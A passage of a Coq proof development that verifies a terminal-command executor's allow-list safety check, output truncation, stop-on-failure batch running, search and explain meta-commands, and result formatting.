  destruct (executeCommand_executed svc cmd options w) as
    [_ _ B Ho _ Hc _ _ Hs | ? ? ? _ _ B | ? ? _ _ B].
  - rewrite Hc. auto.
  - rewrite B in Hb. discriminate.
  - rewrite B in Hb. discriminate.
Qed.

(** A command accepted by neither check is refused with the one message
    the service has for refusals. *)
Lemma not_allowed_is_unsafe svc cmd :
  has (safeCommands svc) (baseCommand cmd) = false ->
  (forall safe, In safe (safeCommands svc) -> startsWith cmd safe = false) ->
  isCommandSafe svc cmd = false.
Proof.
  intros Hh Hp. unfold isCommandSafe.
  destruct (existsb _ dangerousPatterns); [reflexivity|].
  rewrite Hh. cbn.
  destruct (existsb (fun safe => startsWith cmd safe) (safeCommands svc)) eqn:E;
    [|reflexivity].
  apply existsb_exists in E as (safe & Hin & Hsw).
  rewrite (Hp safe Hin) in Hsw. discriminate.
Qed.

(** C5, as the code has it: a command in which no deny pattern occurs,
    run without [skipSafetyCheck], whose leading token is not on the allow
    list and which starts with no entry of it, is not started; the result
    is blocked, with exit code 1, an empty standard output, and the
    message [Command blocked for safety reasons] as its reason. *)
Theorem not_allow_listed_is_blocked svc cmd options w :
  skipSafetyCheck options = false ->
  (forall pattern, In pattern dangerousPatterns -> ~ occurs pattern cmd) ->
  has (safeCommands svc) (baseCommand cmd) = false ->
  (forall safe, In safe (safeCommands svc) -> startsWith cmd safe = false) ->
  blocked (fst (executeCommand svc cmd options w)) = Some true
  /\ stderr (fst (executeCommand svc cmd options w))
     = js "Command blocked for safety reasons"
  /\ exitCode (fst (executeCommand svc cmd options w)) = Number 1
  /\ stdout (fst (executeCommand svc cmd options w)) = []
  /\ spawned (snd (executeCommand svc cmd options w)) = spawned w.
Proof.
  intros Hs _ Hh Hp.
  pose proof (not_allowed_is_unsafe svc cmd Hh Hp) as Hu.
  destruct (executeCommand_executed svc cmd options w) as
    [_ _ B Ho He Hc _ _ Hw | ? ? ? [X|X] | ? ? [X|X]]; try congruence.
  auto.
Qed.

(** ** Truncation *)

Lemma truncateOutput_length svc (output : jsstring) :
  (0 <= maxOutputLength svc)%Z ->
  (strlen (truncateOutput svc output)
   <= maxOutputLength svc + strlen truncation_marker)%Z.
Proof.
  intros Hm. unfold truncateOutput, substring0, strlen.
  destruct (negb (truthy_str output)
            || Z.leb (Z.of_nat (List.length output)) (maxOutputLength svc)) eqn:E.
  - apply orb_true_iff in E as [E|E].
    + destruct output; [cbn; lia | discriminate].
    + apply Z.leb_le in E. lia.
  - rewrite length_app, length_firstn. lia.
Qed.

Lemma truncateOutput_marked svc (output : jsstring) :
  (0 <= maxOutputLength svc)%Z ->
  (maxOutputLength svc < strlen output)%Z ->
  truncateOutput svc output
  = substring0 output (maxOutputLength svc) ++ truncation_marker.
Proof.
  intros H0 Hm. unfold truncateOutput.
  destruct output as [|c output]; cbn [truthy_str negb orb].
  - unfold strlen in Hm. cbn in Hm. lia.
  - destruct (Z.leb _ _) eqn:E; [apply Z.leb_le in E; lia | reflexivity].
Qed.

(** X17: On every path that starts a subprocess the two streams of the result
    stay within the budget plus the marker. *)
Lemma spawned_streams_bounded svc cmd options w :
  (0 <= maxOutputLength svc)%Z ->
  blocked (fst (executeCommand svc cmd options w)) = None ->
  (strlen (stdout (fst (executeCommand svc cmd options w)))
   <= maxOutputLength svc + strlen truncation_marker)%Z
  /\ (strlen (stderr (fst (executeCommand svc cmd options w)))
      <= maxOutputLength svc + strlen truncation_marker)%Z.
Proof.
  intros Hm Hb.
  destruct (executeCommand_executed svc cmd options w) as
    [_ _ B | ? ? ? _ _ _ Ho He | ? ? _ _ _ Ho He].
  - congruence.
  - rewrite Ho, He. split; now apply truncateOutput_length.
  - rewrite Ho, He. split; now apply truncateOutput_length.
Qed.

(** X18: With the default budget every result is within the bound, the refusal
    message included. *)
Lemma default_streams_bounded cmd options w :
  (strlen (stdout (fst (executeCommand default_service cmd options w))) <= 10023)%Z
  /\ (strlen (stderr (fst (executeCommand default_service cmd options w))) <= 10023)%Z.
Proof.
  destruct (executeCommand_executed default_service cmd options w) as
    [_ _ B Ho He | ? ? ? _ _ _ Ho He | ? ? _ _ _ Ho He]; rewrite Ho, He.
  - split; vm_compute; discriminate.
  - split; apply (truncateOutput_length default_service); cbn; lia.
  - split; apply (truncateOutput_length default_service); cbn; lia.
Qed.

(** A command that passes the safety check, or skips it, is handed to
    [exec] once, and the result is built from what [exec] gives. *)
Lemma executeCommand_by_outcome svc cmd options w :
  skipSafetyCheck options = true \/ isCommandSafe svc cmd = true ->
  spawned (snd (executeCommand svc cmd options w))
  = spawned w ++ [(cmd, child_options svc options)]
  /\ blocked (fst (executeCommand svc cmd options w)) = None
  /\ match exec_outcome svc cmd options w with
     | Resolved out err =>
         stdout (fst (executeCommand svc cmd options w)) = truncateOutput svc out
         /\ stderr (fst (executeCommand svc cmd options w)) = truncateOutput svc err
         /\ exitCode (fst (executeCommand svc cmd options w)) = Number 0
         /\ truncated (fst (executeCommand svc cmd options w))
            = Some (Z.ltb (maxOutputLength svc) (strlen out)
                    || Z.ltb (maxOutputLength svc) (strlen err))
     | Rejected e =>
         stdout (fst (executeCommand svc cmd options w))
         = truncateOutput svc (str_or (e_stdout e) [])
         /\ stderr (fst (executeCommand svc cmd options w))
            = truncateOutput svc (str_or (e_stderr e) (e_message e))
         /\ exitCode (fst (executeCommand svc cmd options w))
            = or_else (e_code e) (Number 1)
         /\ truncated (fst (executeCommand svc cmd options w)) = None
     end.
Proof.
  intros Hrun.
  assert (Hc : negb (skipSafetyCheck options) && negb (isCommandSafe svc cmd) = false)
    by (destruct Hrun as [-> | ->]; [reflexivity | apply andb_false_r]).
  unfold executeCommand, exec_outcome, child_options, bind, now, log, exec, ret.
  destruct (Date_now (os w)) as [t0 e0]. cbn. rewrite Hc. cbn.
  match goal with
  | |- context [execAsync ?c ?xo ?env] =>
      destruct (execAsync c xo env) as [[out err | failure] ex]; cbn;
      destruct (Date_now ex) as [t1 e1]; cbn; repeat split
  end.
Qed.

(** X16: When [executeCommand] returns the exit code 0, the command was
    handed to [exec] once, [exec] resolved, the two streams of the result
    are the standard output and the standard error [exec] gave, each cut
    by [truncateOutput], and the flag tells whether one of these raw
    streams was over the budget. *)
Lemma resolved_truncated_flag svc cmd options w :
  is_zero (exitCode (fst (executeCommand svc cmd options w))) = true ->
  exists out err,
    exec_outcome svc cmd options w = Resolved out err
    /\ spawned (snd (executeCommand svc cmd options w))
       = spawned w ++ [(cmd, child_options svc options)]
    /\ stdout (fst (executeCommand svc cmd options w)) = truncateOutput svc out
    /\ stderr (fst (executeCommand svc cmd options w)) = truncateOutput svc err
    /\ (flag (truncated (fst (executeCommand svc cmd options w))) = true
        <-> (maxOutputLength svc < strlen out)%Z
            \/ (maxOutputLength svc < strlen err)%Z).
Proof.
  intros Hz.
  assert (Hrun : skipSafetyCheck options = true \/ isCommandSafe svc cmd = true).
  { destruct (executeCommand_executed svc cmd options w) as
      [_ _ _ _ _ Hc | ? ? ? Hrun | ? ? Hrun]; [|exact Hrun | exact Hrun].
    rewrite Hc in Hz. discriminate. }
  destruct (executeCommand_by_outcome svc cmd options w Hrun) as (Hs & _ & Ho).
  destruct (exec_outcome svc cmd options w) as [out err | e].
  - destruct Ho as (Hout & Herr & _ & Ht).
    exists out, err. rewrite Ht. repeat split; try assumption.
    + cbn. destruct (_ || _) eqn:E; [|discriminate]. intros _.
      apply orb_true_iff in E. rewrite !Z.ltb_lt in E. exact E.
    + intros Hover. rewrite <- !Z.ltb_lt, <- orb_true_iff in Hover. cbn.
      now rewrite Hover.
  - destruct Ho as (_ & _ & Hc & _).
    rewrite Hc, or_else_not_zero in Hz. discriminate.
Qed.

(** ** The batch runner *)

Lemma attempted_cons (r : Result) (rs : list Result) :
  attempted (r :: rs) = attempted [r] ++ attempted rs.
Proof. unfold attempted. cbn. now destruct (negb (flag (blocked r))). Qed.

(** The loop, from any array filled so far: what it adds. *)
Lemma executeCommands_loop_spec svc options cmds : forall acc w,
  exists new,
    fst (executeCommands_loop svc cmds options acc w) = acc ++ new
    /\ map command new = firstn (List.length new) cmds
    /\ (continueOnError options = true -> List.length new = List.length cmds)
    /\ (continueOnError options = false ->
        match first_failure new with
        | Some i => List.length new = S i
        | None => List.length new = List.length cmds
        end)
    /\ map fst (spawned (snd (executeCommands_loop svc cmds options acc w)))
       = map fst (spawned w) ++ map command (attempted new)
    /\ generated (snd (executeCommands_loop svc cmds options acc w)) = generated w.
Proof.
  induction cmds as [|cmd rest IH]; intros acc w.
  - exists []. cbn. rewrite !app_nil_r. repeat split; reflexivity.
  - cbn [executeCommands_loop]. unfold bind.
    pose proof (executeCommand_command svc cmd options w) as Hc.
    pose proof (executeCommand_spawned svc cmd options w) as Hs.
    pose proof (executeCommand_generated svc cmd options w) as Hg.
    destruct (executeCommand svc cmd options w) as [r w1]. cbn [fst snd] in *.
    destruct (is_zero (exitCode r)) eqn:Hz; cbn [negb andb].
    + destruct (IH (acc ++ [r]) w1) as (new & E & Hm & Hcont & Hstop & Hsp & Hgen).
      exists (r :: new). rewrite E, <- app_assoc. cbn [app List.length map firstn].
      repeat split.
      * now rewrite Hc, Hm.
      * intros Ht. now rewrite Hcont.
      * intros Hf. specialize (Hstop Hf). cbn [first_failure]. rewrite Hz.
        destruct (first_failure new); cbn [option_map]; congruence.
      * rewrite Hsp, Hs, (attempted_cons r new), map_app, app_assoc. reflexivity.
      * congruence.
    + destruct (continueOnError options) eqn:Hk; cbn [negb].
      * destruct (IH (acc ++ [r]) w1) as (new & E & Hm & Hcont & _ & Hsp & Hgen).
        exists (r :: new). rewrite E, <- app_assoc. cbn [app List.length map firstn].
        repeat split.
        -- now rewrite Hc, Hm.
        -- intros _. now rewrite Hcont.
        -- discriminate.
        -- rewrite Hsp, Hs, (attempted_cons r new), map_app, app_assoc. reflexivity.
        -- congruence.
      * exists [r]. unfold ret. cbn [fst snd List.length map firstn].
        repeat split.
        -- now rewrite Hc.
        -- discriminate.
        -- intros _. cbn [first_failure]. now rewrite Hz.
        -- exact Hs.
        -- exact Hg.
Qed.

(** The loop calls [executeCommand] on the commands in order, each call
    in the world the call before left, and returns what these calls
    returned. *)
Lemma executeCommands_loop_run svc options cmds : forall acc w,
  exists new,
    fst (executeCommands_loop svc cmds options acc w) = acc ++ new
    /\ batch_run svc options w (firstn (List.length new) cmds) new
         (snd (executeCommands_loop svc cmds options acc w)).
Proof.
  induction cmds as [|cmd rest IH]; intros acc w.
  - exists []. cbn. rewrite app_nil_r. split; [reflexivity | constructor].
  - cbn [executeCommands_loop]. unfold bind.
    destruct (executeCommand svc cmd options w) as [r w1] eqn:E.
    destruct (negb (is_zero (exitCode r)) && negb (continueOnError options)).
    + exists [r]. unfold ret. cbn [fst snd List.length firstn].
      split; [reflexivity|]. econstructor; [exact E | constructor].
    + destruct (IH (acc ++ [r]) w1) as (new & En & Hrun).
      exists (r :: new). rewrite En, <- app_assoc. split; [reflexivity|].
      cbn [List.length firstn]. econstructor; [exact E | exact Hrun].
Qed.

(** C2: without [continueOnError] the results are what [executeCommand]
    returned for a prefix of the commands, run in their order, each in the
    world the one before left, and the world returned is the one the last
    of them left; when one of the results has an exit code other than 0 it
    is the last one, so the list is as long as the index of the first
    failure plus one, and otherwise it is as long as the input; the
    subprocesses started are those of the returned results that are not
    blocked, so nothing after the first failure is started. *)
Theorem stop_on_first_failure svc cmds options w rs w' :
  continueOnError options = false ->
  executeCommands svc cmds options w = (rs, w') ->
  map command rs = firstn (List.length rs) cmds
  /\ match first_failure rs with
     | Some i => List.length rs = S i
     | None => List.length rs = List.length cmds
     end
  /\ map fst (spawned w') = map fst (spawned w) ++ map command (attempted rs)
  /\ batch_run svc options w (firstn (List.length rs) cmds) rs w'.
Proof.
  intros Hf E. unfold executeCommands in E.
  destruct (executeCommands_loop_spec svc options cmds [] w)
    as (new & En & Hm & _ & Hstop & Hsp & _).
  destruct (executeCommands_loop_run svc options cmds [] w) as (new' & En' & Hrun).
  rewrite E in En, Hsp, En', Hrun. cbn in En, Hsp, En', Hrun. subst new new'.
  split; [exact Hm | split; [exact (Hstop Hf) | split; [exact Hsp | exact Hrun]]].
Qed.

(** A batch starts the subprocesses of its results that are not blocked,
    in order, and no other. *)
Lemma executeCommands_spawned svc cmds options w :
  map fst (spawned (snd (executeCommands svc cmds options w)))
  = map fst (spawned w)
    ++ map command (attempted (fst (executeCommands svc cmds options w))).
Proof.
  unfold executeCommands.
  destruct (executeCommands_loop_spec svc options cmds [] w)
    as (new & En & _ & _ & _ & Hsp & _).
  rewrite Hsp, En. reflexivity.
Qed.

(** With [continueOnError] the loop never leaves early. *)
Lemma executeCommands_continue svc cmds options w :
  continueOnError options = true ->
  List.length (fst (executeCommands svc cmds options w)) = List.length cmds
  /\ map command (fst (executeCommands svc cmds options w)) = cmds.
Proof.
  intros Ht. unfold executeCommands.
  destruct (executeCommands_loop_spec svc options cmds [] w)
    as (new & En & Hm & Hcont & _).
  rewrite En. cbn [app]. specialize (Hcont Ht). split; [exact Hcont|].
  rewrite Hm, Hcont. apply firstn_all.
Qed.

(** C6: with [continueOnError] there is one result per command, in the
    order of the commands, whatever the exit codes are. *)
Theorem continue_on_error_runs_all svc cmds options w rs w' :
  continueOnError options = true ->
  executeCommands svc cmds options w = (rs, w') ->
  List.length rs = List.length cmds
  /\ map command rs = cmds.
Proof.
  intros Ht E.
  pose proof (executeCommands_continue svc cmds options w Ht) as H.
  rewrite E in H. exact H.
Qed.

End Executor.

(* ================================================================== *)
(** * The meta-commands *)
(* ================================================================== *)

Lemma split_not_nil (sep : N) (s : jsstring) : split sep s <> [].
Proof.
  destruct s as [|c s]; cbn; [discriminate|].
  destruct (N.eqb c sep); [discriminate|].
  destruct (split sep s); discriminate.
Qed.

Lemma trimStart_blank (s : jsstring) :
  forallb isWhiteSpace s = true -> trimStart s = [].
Proof.
  induction s as [|c s IH]; cbn; [reflexivity|].
  intros H. apply andb_true_iff in H as [Hc Hs]. rewrite Hc. auto.
Qed.

Lemma trimStart_not_blank (s : jsstring) :
  forallb isWhiteSpace s = false -> truthy_str (trimStart s) = true.
Proof.
  induction s as [|c s IH]; cbn; [discriminate|].
  destruct (isWhiteSpace c) eqn:Hc; cbn; auto.
Qed.

Lemma trimStart_keeps_blankness (s : jsstring) :
  forallb isWhiteSpace (trimStart s) = forallb isWhiteSpace s.
Proof.
  induction s as [|c s IH]; cbn; [reflexivity|].
  destruct (isWhiteSpace c) eqn:Hc; cbn; [assumption|].
  now rewrite Hc.
Qed.

Lemma forallb_rev {A} (f : A -> bool) (l : list A) :
  forallb f (rev l) = forallb f l.
Proof.
  induction l as [|x l IH]; cbn; [reflexivity|].
  rewrite forallb_app, IH. cbn. rewrite andb_true_r. apply andb_comm.
Qed.

(** A line is truthy after [trim] when it holds a character other than
    white space. *)
Lemma trim_truthy (line : jsstring) :
  truthy_str (trim line) = negb (forallb isWhiteSpace line).
Proof.
  unfold trim, trimEnd.
  destruct (forallb isWhiteSpace line) eqn:E; cbn.
  - now rewrite (trimStart_blank line E).
  - assert (H : truthy_str (trimStart (rev (trimStart line))) = true).
    { apply trimStart_not_blank.
      now rewrite forallb_rev, trimStart_keeps_blankness. }
    destruct (trimStart (rev (trimStart line))) as [|c t]; [discriminate|].
    cbn. now destruct (rev t).
Qed.

Lemma nonblank_scan_split (text : jsstring) : forall seen,
  nonblank_scan seen text
  = match split LF text with
    | [] => 0
    | line :: lines =>
        (if seen || truthy_str (trim line) then 1 else 0)
        + List.length (filter (fun l => truthy_str (trim l)) lines)
    end.
Proof.
  induction text as [|c text IH]; intros seen.
  - cbn. now rewrite orb_false_r, Nat.add_0_r.
  - cbn [nonblank_scan split]. destruct (N.eqb c LF) eqn:Ec.
    + rewrite IH. cbn [trim trimEnd trimStart rev truthy_str filter].
      rewrite orb_false_r. f_equal.
      destruct (split LF text) as [|l ls]; cbn; [reflexivity|].
      now destruct (truthy_str (trim l)).
    + rewrite IH. pose proof (split_not_nil LF text) as Hn.
      destruct (split LF text) as [|l ls]; [congruence|].
      f_equal. rewrite !trim_truthy. cbn [forallb].
      destruct seen, (isWhiteSpace c), (forallb isWhiteSpace l); reflexivity.
Qed.

(** The count the source computes with [split], [filter] and [trim] is
    the number of lines that are not blank. *)
Lemma count_matches_nonblank (out : jsstring) :
  count_matches out = nonblank_lines out.
Proof.
  unfold count_matches, nonblank_lines. rewrite nonblank_scan_split.
  pose proof (split_not_nil LF out) as Hn.
  destruct (split LF out) as [|l ls]; [congruence|].
  cbn. now destruct (truthy_str (trim l)).
Qed.

Section MetaCommands.

Context {machine : Machine}.

Lemma search_entries (rs : list Result) :
  Forall2 (fun r entry =>
             s_command entry = command r
             /\ matches entry = nonblank_lines (stdout r))
    rs (map search_entry rs).
Proof.
  induction rs as [|r rs IH]; cbn; constructor; [|assumption].
  split; [reflexivity | apply count_matches_nonblank].
Qed.

Lemma search_synthesis_of_batch svc options query context w :
  continueOnError options = true ->
  search_synthesis svc options query context w
    (let (rs, w') := executeCommands svc (searchCommands query context) options w in
     ({| sr_command := js "claude-search " ++ query;
         results := map search_entry rs |}, w')).
Proof.
  intros Hk. unfold search_synthesis.
  destruct (executeCommands svc (searchCommands query context) options w)
    as [rs w'] eqn:E.
  destruct (executeCommands_continue svc (searchCommands query context) options w Hk)
    as [Hl Hm].
  pose proof (executeCommands_spawned svc (searchCommands query context) options w)
    as Hs.
  rewrite E in Hl, Hm, Hs. cbn [fst snd] in Hl, Hm, Hs.
  exists rs. cbn [fst snd sr_command results].
  repeat split; try assumption. apply search_entries.
Qed.

(** The standard output of a result is the captured one, cut. *)
Lemma stdout_is_cut_capture svc cmd options w :
  stdout (fst (executeCommand svc cmd options w))
  = truncateOutput svc (captured_stdout svc cmd options w).
Proof.
  unfold captured_stdout.
  destruct (negb (skipSafetyCheck options) && negb (isCommandSafe svc cmd)) eqn:Hc.
  - apply andb_true_iff in Hc as [Hs Hu].
    apply negb_true_iff in Hs, Hu.
    destruct (executeCommand_executed svc cmd options w) as
      [_ _ _ Ho | ? ? ? [X|X] | ? ? [X|X]]; try congruence.
    rewrite Ho. reflexivity.
  - assert (Hrun : skipSafetyCheck options = true \/ isCommandSafe svc cmd = true).
    { apply andb_false_iff in Hc as [Hc|Hc]; apply negb_false_iff in Hc; auto. }
    destruct (executeCommand_by_outcome svc cmd options w Hrun) as (_ & _ & Ho).
    destruct (exec_outcome svc cmd options w); tauto.
Qed.

(** With [continueOnError] a batch is the run of all its commands. *)
Lemma executeCommands_run_all svc cmds options w :
  continueOnError options = true ->
  batch_run svc options w cmds
    (fst (executeCommands svc cmds options w))
    (snd (executeCommands svc cmds options w)).
Proof.
  intros Hk.
  destruct (executeCommands_continue svc cmds options w Hk) as [Hl _].
  unfold executeCommands in *.
  destruct (executeCommands_loop_run svc options cmds [] w) as (new & En & Hrun).
  cbn [app] in En. rewrite En in *. rewrite Hl, firstn_all in Hrun. exact Hrun.
Qed.

Lemma batch_run_counted svc options w cmds rs w' :
  batch_run svc options w cmds rs w' ->
  probes_counted svc options w cmds (map search_entry rs) w'.
Proof.
  induction 1 as [w0 | w0 cmd cmds r w1 rs w' E _ IH]; cbn [map]; [constructor|].
  pose proof (stdout_is_cut_capture svc cmd options w0) as Ho.
  pose proof (executeCommand_command svc cmd options w0) as Hc.
  rewrite E in Ho, Hc. cbn [fst] in Ho, Hc.
  econstructor; [exact E | exact Hc | | exact IH].
  cbn [search_entry matches]. now rewrite count_matches_nonblank, Ho.
Qed.

Lemma search_counted_of_batch svc options query context w :
  continueOnError options = true ->
  probes_counted svc options w (searchCommands query context)
    (map search_entry
       (fst (executeCommands svc (searchCommands query context) options w)))
    (snd (executeCommands svc (searchCommands query context) options w)).
Proof.
  intros Hk. apply batch_run_counted. now apply executeCommands_run_all.
Qed.

Lemma truncateOutput_within_budget svc (text : jsstring) :
  (strlen text <= maxOutputLength svc)%Z -> truncateOutput svc text = text.
Proof.
  intros H. unfold truncateOutput. apply Z.leb_le in H. rewrite H.
  now rewrite orb_true_r.
Qed.

(** C7, as the code has it: for every query the search meta-command, in
    the service and in the provider, hands [executeCommands] exactly three
    commands, a [grep], a [find] and a [git log] in this order, with
    [continueOnError] set; the three are run one after the other and give
    three results, and the match count of each entry of the answer is the
    number of lines, not blank once trimmed, of the standard output of
    that result: the standard output captured for the command after
    [truncateOutput] has cut it.  A captured output within the budget is
    counted as it is; one over the budget is counted after the cut, with
    the line of the truncation marker. *)
Theorem claude_search_three_probes svc query context w :
  (exists grep find gitlog,
      searchCommands query context = [grep; find; gitlog]
      /\ startsWith grep (js "grep -r ") = true
      /\ startsWith find (js "find ") = true
      /\ startsWith gitlog (js "git log --grep=") = true)
  /\ continueOnError continue_options = true
  /\ continueOnError (continue_in_project_root context) = true
  /\ search_synthesis svc continue_options query context w
       (claudeSearch svc query context w)
  /\ search_synthesis Provider_terminalService (continue_in_project_root context)
       query context w (Provider_claudeSearch query context w)
  /\ probes_counted svc continue_options w (searchCommands query context)
       (results (fst (claudeSearch svc query context w)))
       (snd (claudeSearch svc query context w))
  /\ probes_counted Provider_terminalService (continue_in_project_root context) w
       (searchCommands query context)
       (results (fst (Provider_claudeSearch query context w)))
       (snd (Provider_claudeSearch query context w))
  /\ (forall (s : TerminalService) (text : jsstring),
        (strlen text <= maxOutputLength s)%Z -> truncateOutput s text = text)
  /\ (forall (s : TerminalService) (text : jsstring),
        (0 <= maxOutputLength s)%Z ->
        (maxOutputLength s < strlen text)%Z ->
        truncateOutput s text
        = substring0 text (maxOutputLength s) ++ truncation_marker).
Proof.
  split; [|split; [reflexivity | split; [reflexivity | split; [|split]]]].
  - unfold searchCommands. do 3 eexists.
    split; [reflexivity|]. split; [|split]; reflexivity.
  - apply (search_synthesis_of_batch svc continue_options query context w).
    reflexivity.
  - apply (search_synthesis_of_batch Provider_terminalService
             (continue_in_project_root context) query context w).
    reflexivity.
  - split; [|split; [|split]].
    + pose proof (@search_counted_of_batch svc continue_options query context w
                    eq_refl) as H.
      unfold claudeSearch, bind, ret.
      now destruct (executeCommands svc (searchCommands query context)
                      continue_options w).
    + pose proof (@search_counted_of_batch Provider_terminalService
                    (continue_in_project_root context) query context w eq_refl) as H.
      unfold Provider_claudeSearch, bind, ret.
      now destruct (executeCommands Provider_terminalService
                      (searchCommands query context)
                      (continue_in_project_root context) w).
    + intros s text. apply truncateOutput_within_budget.
    + intros s text. apply truncateOutput_marked.
Qed.

(** The search for [auth] on the scripted machine: three entries, with
    2, 0 and 0 matches, and three subprocesses started in order. *)
Lemma search_for_auth :
  map matches
    (results (fst (claudeSearch default_service (js "auth") no_context search_world)))
  = [2; 0; 0]
  /\ map fst
       (spawned (snd (claudeSearch default_service (js "auth") no_context
                        search_world)))
     = searchCommands (js "auth") no_context.
Proof. vm_compute. split; reflexivity. Qed.

Lemma app_one_more {A} (l : list A) (x : A) : l ++ [x] <> l.
Proof.
  intros E. apply (f_equal (@List.length A)) in E.
  rewrite length_app in E. cbn in E. lia.
Qed.

(** C8, as the code has it: the [claudeExplain] of the provider first
    runs the one command [cat <target>] through [executeCommand]; when the
    exit code of that result is 0 it sends the captured content to text
    generation, once, and returns the explanation it gets (or fails as
    text generation fails); otherwise it makes no text-generation request
    and returns the failure [Could not read file] with the standard error
    of the read.  The [claudeExplain] of the terminal service is a
    placeholder: it runs nothing and returns a fixed explanation. *)
Theorem provider_explain_reads_first svc target context w fileContent w1 :
  executeCommand Provider_terminalService (js "cat " ++ target)
    (in_project_root context) w = (fileContent, w1) ->
  command fileContent = js "cat " ++ target
  /\ map fst (spawned (snd (Provider_claudeExplain target context w)))
     = map fst (spawned w) ++ map command (attempted [fileContent])
  /\ (is_zero (exitCode fileContent) = true ->
      generated (snd (Provider_claudeExplain target context w))
      = generated w ++ [explain_request (stdout fileContent)]
      /\ fst (Provider_claudeExplain target context w)
         = match fst (super_generateText (explain_request (stdout fileContent))
                        (os w1)) with
           | Returns text =>
               Returns (Explanation (js "claude-explain " ++ target) text)
           | Throws message => Throws message
           end)
  /\ (is_zero (exitCode fileContent) = false ->
      Provider_claudeExplain target context w
      = (Returns (CouldNotRead (js "claude-explain " ++ target)
                    (js "Could not read file") (stderr fileContent)), w1)
      /\ generated w1 = generated w)
  /\ (is_zero (exitCode fileContent) = true
      <-> generated (snd (Provider_claudeExplain target context w)) <> generated w)
  /\ claudeExplain svc target context w
     = (Explanation (js "claude-explain " ++ target)
          (js "This command would use AI to explain the specified code or file"),
        w).
Proof.
  intros E.
  pose proof (executeCommand_command Provider_terminalService
                (js "cat " ++ target) (in_project_root context) w) as Hc.
  pose proof (executeCommand_spawned Provider_terminalService
                (js "cat " ++ target) (in_project_root context) w) as Hs.
  pose proof (executeCommand_generated Provider_terminalService
                (js "cat " ++ target) (in_project_root context) w) as Hg.
  rewrite E in Hc, Hs, Hg. cbn [fst snd] in Hc, Hs, Hg.
  assert (Hyes : is_zero (exitCode fileContent) = true ->
            generated (snd (Provider_claudeExplain target context w))
            = generated w ++ [explain_request (stdout fileContent)]
            /\ spawned (snd (Provider_claudeExplain target context w)) = spawned w1
            /\ fst (Provider_claudeExplain target context w)
               = match fst (super_generateText
                              (explain_request (stdout fileContent)) (os w1)) with
                 | Returns text =>
                     Returns (Explanation (js "claude-explain " ++ target) text)
                 | Throws message => Throws message
                 end).
  { intros Hz. unfold Provider_claudeExplain, bind. rewrite E, Hz.
    unfold Provider_generateText, ret.
    destruct (super_generateText (explain_request (stdout fileContent)) (os w1))
      as [[text|message] e]; cbn; rewrite Hg; auto. }
  assert (Hno : is_zero (exitCode fileContent) = false ->
            Provider_claudeExplain target context w
            = (Returns (CouldNotRead (js "claude-explain " ++ target)
                          (js "Could not read file") (stderr fileContent)), w1)).
  { intros Hz. unfold Provider_claudeExplain, bind. rewrite E, Hz. reflexivity. }
  split; [exact Hc|]. split; [|split; [|split; [|split]]].
  - destruct (is_zero (exitCode fileContent)) eqn:Hz.
    + destruct (Hyes eq_refl) as (_ & Hsp & _). now rewrite Hsp.
    + now rewrite (Hno eq_refl).
  - intros Hz. destruct (Hyes Hz) as (Hgen & _ & Hres). now split.
  - intros Hz. split; [now apply Hno | exact Hg].
  - split.
    + intros Hz. destruct (Hyes Hz) as (Hgen & _). rewrite Hgen.
      apply app_one_more.
    + intros Hne. destruct (is_zero (exitCode fileContent)) eqn:Hz; [reflexivity|].
      rewrite (Hno eq_refl) in Hne. cbn in Hne. congruence.
  - reflexivity.
Qed.

End MetaCommands.

(* ================================================================== *)
(** * The formatters *)
(* ================================================================== *)

Section Formatters.

Context {machine : Machine}.

Lemma map_indexed_ext {A B} (f g : A -> nat -> B) (l : list A) : forall i,
  (forall x j, f x j = g x j) -> map_indexed f i l = map_indexed g i l.
Proof.
  induction l as [|x l IH]; intros i H; cbn; [reflexivity|].
  now rewrite H, (IH (S i) H).
Qed.

Lemma formatTerminalResult_parts (r : Result) (index : nat) :
  formatTerminalResult r index
  = List.concat (map render_context_part (context_parts r index)).
Proof.
  unfold formatTerminalResult, context_parts.
  destruct (flag (blocked r)), (truthy_str (stdout r)),
    (truthy_str (stderr r) && negb (is_zero (exitCode r))),
    (flag (truncated r));
    cbn [app map List.concat render_context_part];
    rewrite ?app_nil_r; repeat (rewrite <- ?app_assoc; cbn [app]); reflexivity.
Qed.

Lemma formatResult_parts (r : Result) :
  formatResult r = List.concat (map render_display_part (display_parts r)).
Proof.
  unfold formatResult, display_parts.
  destruct (truthy_str (stdout r)), (truthy_str (stderr r)), (flag (truncated r));
    cbn [app map List.concat render_display_part];
    rewrite ?app_nil_r; repeat (rewrite <- ?app_assoc; cbn [app]); reflexivity.
Qed.

(** C9, as the code has it.  [formatTerminalResults] renders the results
    in order, joined by a line feed, each as: a heading with its position
    (from 1) and the command text; then, for a blocked result, the
    blocked-for-safety notice and the reason, and otherwise the exit code,
    the output block when the standard output is not empty and the error
    block when the standard error is not empty and the exit code is not 0;
    then the truncation note when the flag is set.  It renders no status
    indicator and no duration.  [formatResult] renders one result as: the
    status indicator, the command text and the duration; the output when
    the standard output is not empty; the error text when the standard
    error is not empty; the truncation note when the flag is set. *)
Theorem formatters_render_parts (rs : list Result) (r : Result) :
  formatTerminalResults rs
  = join [LF]
      (map_indexed
         (fun r index => List.concat (map render_context_part (context_parts r index)))
         0 rs)
  /\ formatResult r = List.concat (map render_display_part (display_parts r)).
Proof.
  split.
  - unfold formatTerminalResults. f_equal.
    apply map_indexed_ext. intros x j. apply formatTerminalResult_parts.
  - apply formatResult_parts.
Qed.

End Formatters.

(* ================================================================== *)
(** * The properties on the scripted machines *)
(* ================================================================== *)

(** C3: on the path where the subprocess fails the streams are cut to the
    budget but the result carries no [truncated] flag.  Here [grep -r x .]
    exits with 2 after writing 10001 code units, one more than the default
    budget of 10000: the standard output of the result is the first 10000
    code units followed by the marker, within the bound, and [truncated]
    is absent. *)
Theorem failed_command_truncation_not_flagged :
  (maxOutputLength default_service < strlen long_output)%Z
  /\ exitCode grep_result = Number 2
  /\ error grep_result = Some true
  /\ stdout grep_result = substring0 long_output 10000 ++ truncation_marker
  /\ (strlen (stdout grep_result)
      <= maxOutputLength default_service + strlen truncation_marker)%Z
  /\ truncated grep_result = None
  /\ flag (truncated grep_result) = false.
Proof.
  repeat split; try (vm_compute; reflexivity).
  vm_compute. discriminate.
Qed.

Lemma stop_on_first_failure_witness :
  continueOnError no_options = false
  /\ map command (fst (executeCommands default_service demo_batch no_options demo_world))
     = firstn
         (List.length
            (fst (executeCommands default_service demo_batch no_options demo_world)))
         demo_batch
  /\ match first_failure
             (fst (executeCommands default_service demo_batch no_options demo_world))
     with
     | Some i =>
         List.length
           (fst (executeCommands default_service demo_batch no_options demo_world))
         = S i
     | None =>
         List.length
